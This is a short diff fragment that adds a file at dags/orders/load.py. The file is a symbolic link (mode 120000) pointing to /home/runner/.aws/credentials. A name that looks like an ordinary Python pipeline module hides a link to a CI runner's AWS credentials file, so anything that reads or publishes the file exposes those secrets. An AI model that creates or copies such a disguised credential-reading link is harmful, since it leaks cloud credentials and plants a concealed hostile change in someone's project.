@@ -1,0 +1,3 @@
+# mode: 120000
+# path: dags/orders/load.py
+/home/runner/.aws/credentials
